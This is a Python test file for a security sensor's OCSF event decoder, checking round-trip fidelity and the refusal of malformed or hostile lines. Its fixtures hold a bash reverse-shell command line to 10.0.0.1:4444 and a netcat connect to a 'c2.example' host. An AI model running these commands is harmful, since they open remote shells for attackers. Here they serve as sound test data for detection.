"""OCSF JSON back into records (`decode_line`, `from_ocsf`): every kind the codec writes reads back into
the record that gives the same OCSF again, and hostile lines are refused with what is wrong and where."""

from __future__ import annotations

import json

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ringfence.events import (
    AccountChange,
    AccountChangeActivityId,
    AuditEvent,
    AuditRecord,
    Authentication,
    AuthenticationActivityId,
    AuthKind,
    AuthRequest,
    DetectionFinding,
    DnsActivity,
    DnsActivityId,
    DnsAnswer,
    DnsQuery,
    Event,
    Header,
    LogEvent,
    NetworkActivity,
    NetworkActivityId,
    OcsfDecodeError,
    OcsfEncoder,
    ProcessActivity,
    ProcessActivityId,
    ProcessRef,
    Severity,
    decode_line,
    from_ocsf,
)
from ringfence.sdk._protocol import EventBatch
from tests.events.test_codec_properties import ENDPOINTS, EVENTS, HEADERS, PROCESSES, TEXT, _optional

ENCODER = OcsfEncoder()
ATTACK_ID = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._-]{0,12}", fullmatch=True)
TACTICS = st.sampled_from(["execution", "Defense_Evasion", "persistence", "made-up"]) | ATTACK_ID
FINDINGS = st.builds(
    DetectionFinding,
    header=HEADERS,
    title=TEXT,
    severity=st.sampled_from(Severity),
    source=TEXT,
    rule=_optional(TEXT),
    process=_optional(PROCESSES),
    file_path=_optional(TEXT),
    # valid text only: the encoder title-cases an unknown action before escaping what was not UTF-8, so
    # "\udc80" is written as "\\x80", which no action title-cases back to (actions come over the wire as
    # text, never with such bytes)
    action=_optional(
        st.sampled_from(["denied", "blocked", "quarantined", "Observed ", "", "killed"]) | st.text()
    ),
    techniques=st.lists(st.sampled_from(["T1059", "T1059.004", "t1105", "T1."]) | ATTACK_ID, max_size=3).map(
        tuple
    ),
    tactics=st.lists(TACTICS, max_size=3).map(tuple),
)
RECORDS = st.builds(AuditRecord, type=TEXT, fields=st.dictionaries(TEXT, TEXT, max_size=4))
DETECTION = st.one_of(
    st.builds(
        AuditEvent,
        header=HEADERS,
        serial=st.integers(0, 2**63 - 1),
        time_ns=st.integers(0, 2**62),
        records=st.lists(RECORDS, max_size=4).map(tuple),
        process=_optional(PROCESSES),
        complete=st.booleans(),
    ),
    st.builds(
        Authentication,
        header=HEADERS,
        activity=st.sampled_from(AuthenticationActivityId),
        success=st.booleans(),
        record_type=TEXT,
        user=_optional(TEXT | st.just("unknown")),
        uid=_optional(st.integers(0, 2**32 - 1)),
        service=_optional(TEXT),
        operation=_optional(TEXT),
        source=_optional(ENDPOINTS),
        terminal=_optional(TEXT),
        session=_optional(st.integers(0, 2**32 - 1)),
        command=_optional(TEXT),
        process=_optional(PROCESSES),
    ),
    st.builds(
        AccountChange,
        header=HEADERS,
        activity=st.sampled_from(AccountChangeActivityId),
        success=st.booleans(),
        record_type=TEXT,
        user=_optional(TEXT | st.just("unknown") | st.just("?")),
        uid=_optional(st.integers(0, 2**32 - 1)),
        group=_optional(TEXT),
        gid=_optional(st.integers(0, 2**32 - 1)),
        operation=_optional(TEXT),
        process=_optional(PROCESSES),
    ),
    st.builds(
        DnsActivity,
        header=HEADERS,
        activity=st.sampled_from(DnsActivityId),
        query=_optional(st.builds(DnsQuery, hostname=TEXT, type=_optional(TEXT), dns_class=_optional(TEXT))),
        transaction_id=_optional(st.integers(0, 65535)),
        rcode=_optional(st.integers(0, 4095)),
        answers=st.lists(
            st.builds(
                DnsAnswer,
                name=TEXT,
                type=TEXT,
                data=TEXT,
                ttl=_optional(st.integers(0, 2**31 - 1)),
                dns_class=_optional(TEXT),
            ),
            max_size=3,
        ).map(tuple),
        src=_optional(ENDPOINTS),
        dst=_optional(ENDPOINTS),
        process=_optional(PROCESSES),
    ),
    st.builds(
        LogEvent,
        header=HEADERS,
        source=TEXT,
        message=TEXT,
        time_ns=_optional(st.integers(0, 2**62)),
        host=_optional(TEXT),
        program=_optional(TEXT),
        pid=_optional(st.integers(0, 2**22)),
        facility=_optional(st.integers(0, 23)),
        severity=_optional(st.integers(0, 7)),
        line=_optional(TEXT),
        process=_optional(PROCESSES),
    ),
)


def _text_action(event: Event) -> bool:
    """Not a finding whose action holds bytes that were not UTF-8 (see FINDINGS)."""
    return (
        not isinstance(event, DetectionFinding)
        or event.action is None
        or event.action.isprintable()
        or (event.action == event.action.encode("utf-8", "surrogatepass").decode("utf-8", "replace"))
    )


def _ocsf(event: Event) -> dict:
    return json.loads(ENCODER.encode(event))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(EVENTS.filter(_text_action) | FINDINGS | DETECTION)
def test_every_recorded_event_reads_back_into_a_record_that_writes_the_same_ocsf(event: Event) -> None:
    line = ENCODER.encode(event)
    decoded = decode_line(line)
    assert type(decoded) is type(event)
    assert _ocsf(decoded) == json.loads(line)
    assert from_ocsf(json.loads(line)) == decoded


def _h(seq: int = 7) -> Header:
    return Header(
        id="abcd-process-7",
        time_ns=1_764_000_000_123_000_000,
        mono_ns=5,
        host="h1",
        sensor="process",
        seq=seq,
    )


SHELL = ProcessRef(
    pid=4242,
    ppid=4000,
    exe="/usr/bin/bash",
    cmdline=("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    cwd="/root",
    uid=0,
    user="root",
    start_time_ns=1_764_000_000_100_000_000,
    parent=ProcessRef(pid=4000, exe="/usr/sbin/sshd", cmdline=("sshd:", "root@pts/0")),
)


def test_an_exec_reads_back_with_what_the_engines_match_on() -> None:
    event = ProcessActivity(header=_h(), activity=ProcessActivityId.LAUNCH, process=SHELL)
    decoded = decode_line(ENCODER.encode(event))
    assert isinstance(decoded, ProcessActivity)
    # argv with spaces comes back split on spaces: the same command line, which is what Sigma reads
    assert decoded.process.cmdline == ("bash", "-c", "bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444", "0>&1")
    assert msgspec.structs.replace(decoded.process, cmdline=SHELL.cmdline) == SHELL
    assert decoded.header == Header(id="abcd-process-7", time_ns=1_764_000_000_123_000_000, mono_ns=0,
                                    host="h1", sensor="process", seq=7)  # fmt: skip


def test_a_fork_and_an_exec_gate_request_are_told_apart_from_a_launch() -> None:
    fork = decode_line(
        ENCODER.encode(ProcessActivity(header=_h(), activity=ProcessActivityId.FORK, process=SHELL))
    )
    assert isinstance(fork, ProcessActivity) and fork.activity is ProcessActivityId.FORK
    gate = AuthRequest(
        header=_h(), kind=AuthKind.EXEC, path="/tmp/evil", process=SHELL, size=9, sha256="a" * 64
    )
    back = decode_line(ENCODER.encode(gate))
    assert isinstance(back, AuthRequest)
    assert msgspec.structs.replace(back, header=gate.header, process=SHELL) == AuthRequest(
        header=gate.header, kind=AuthKind.EXEC, path="/tmp/evil", process=SHELL
    )  # the file's identity (size, sha256) is not in OCSF


def test_a_connect_keeps_its_local_and_remote_sides() -> None:
    from ringfence.events import Endpoint

    event = NetworkActivity(
        header=_h(),
        activity=NetworkActivityId.OPEN,
        syscall="connect",
        success=True,
        local=Endpoint(family="inet", ip="10.0.0.2", port=50000),
        remote=Endpoint(family="inet", ip="203.0.113.7", port=4444, hostname="c2.example"),
        process=ProcessRef(pid=4243, exe="/usr/bin/nc", cmdline=("nc", "203.0.113.7", "4444"), uid=0),
    )
    decoded = decode_line(ENCODER.encode(event))
    assert msgspec.structs.replace(decoded, header=event.header) == event


def _line(**changes: object) -> bytes:
    doc = _ocsf(ProcessActivity(header=_h(), activity=ProcessActivityId.LAUNCH, process=SHELL))
    doc.update(changes)
    return json.dumps(doc).encode()


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (b"not json at all", "not JSON: JSON is malformed"),
        (b'{"class_uid": 1007, "activity_id": 1', "not JSON: Input data was truncated"),
        (b"[1, 2]", "not an OCSF event: Expected `object`, got `array`"),
        (b'"a string"', "not an OCSF event: Expected `object`, got `str`"),
        (b"{}", "Object missing required field `class_uid` (Ringfence writes class_uid 0, 1001, 1007"),
        (_line(class_uid=5001), "Invalid value 5001 - at `$.class_uid` (Ringfence writes class_uid 0, 1001"),
        (_line(class_uid="1007"), "Expected `int` - at `$.class_uid` (Ringfence writes class_uid 0, 1001"),
        (_line(time="yesterday"), "Expected `int`, got `str` - at `$.time`"),
        (_line(process={"pid": "4242"}), "Expected `int`, got `str` - at `$.process.pid`"),
        (_line(process={"pid": 1, "user": {"uid": "root"}}), "$.process.user.uid is not a 64-bit number"),
        (_line(process={"pid": 1, "user": {"uid": str(2**64)}}), "$.process.user.uid is not a 64-bit number"),
        (_line(time=2**70), "Expected `int` <= 9223372036854 - at `$.time`"),
        (_line(process={"pid": -(2**64)}), "Expected `int` >= -9223372036854775808 - at `$.process.pid`"),
        (_line(activity_id=42), "Process Activity activity_id 42 is not one Ringfence writes"),
        (_line(metadata={"version": "1.8.0"}), "Object missing required field `uid` - at `$.metadata`"),
        (
            b'{"class_uid": 0, "activity_id": 99, "time": 1, "metadata": {"uid": "x"}}',
            "a Base Event is an audit",
        ),
        (b"\xff\xfe", "not JSON: JSON is malformed: invalid character"),
        # a lone surrogate: the agent writes such text \xNN-escaped (valid_text), and no engine gets one
        (_line(message="a \udc80 b"), "not JSON: JSON is malformed: invalid utf-16 surrogate pair"),
    ],
)
def test_a_hostile_line_is_refused_with_what_is_wrong_and_where(line: bytes, message: str) -> None:
    with pytest.raises(OcsfDecodeError) as raised:
        decode_line(line)
    assert message in str(raised.value)


def test_deep_nesting_is_refused_not_a_crash() -> None:
    nested: dict = {"pid": 1}
    for _ in range(40):
        nested = {"pid": 1, "file": {"path": "/x"}, "parent_process": nested}
    with pytest.raises(OcsfDecodeError, match="more than 32 levels of parent_process"):
        decode_line(_line(process=nested))
    deep = b'{"class_uid": 1007, "process": ' + b'{"parent_process": ' * 100_000 + b"null" + b"}" * 100_001
    with pytest.raises(OcsfDecodeError, match="nested too deeply"):
        decode_line(deep)


def test_an_error_never_quotes_the_line() -> None:
    secret = "root:$y$j9T$hunter2"
    for line in (
        secret.encode(),
        _line(process={"pid": 1, "user": {"uid": secret}}),
        _line(activity_id=secret),
    ):
        with pytest.raises(OcsfDecodeError) as raised:
            decode_line(line)
        assert "hunter2" not in str(raised.value)


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.floats(allow_nan=False)
    | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)


def _leaves(value: object, path: tuple = ()) -> list[tuple]:
    if isinstance(value, dict):
        return [p for k, v in value.items() for p in _leaves(v, (*path, k))] or [path]
    if isinstance(value, list):
        return [p for i, v in enumerate(value) for p in _leaves(v, (*path, i))] or [path]
    return [path]


def _decodes_or_refuses(line: bytes) -> None:
    try:
        event = decode_line(line)
    except OcsfDecodeError:
        return
    ENCODER.encode(event)  # what decodes is a record the encoder takes
    msgspec.msgpack.encode(EventBatch([event]))  # and the wire to an extension


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data(), EVENTS.filter(_text_action) | FINDINGS | DETECTION, JSON)
def test_any_part_of_an_event_replaced_by_any_json_decodes_or_is_refused(data, event: Event, junk) -> None:
    """Hostile lines: an event with one attribute swapped for any JSON value, or one removed, gives a
    record or an OcsfDecodeError, never another exception (which would stop a replay)."""
    doc = _ocsf(event)
    path = data.draw(st.sampled_from(_leaves(doc)))
    if not path:
        return
    target = doc
    for step in path[:-1]:
        target = target[step]
    if data.draw(st.booleans()) and isinstance(target, dict):
        del target[path[-1]]
    else:
        target[path[-1]] = junk
    _decodes_or_refuses(json.dumps(doc).encode())


@settings(max_examples=200, deadline=None)
@given(JSON | st.dictionaries(st.sampled_from(["class_uid", "activity_id", "time", "metadata"]), JSON))
def test_any_json_document_decodes_or_is_refused(document) -> None:
    _decodes_or_refuses(json.dumps(document).encode())
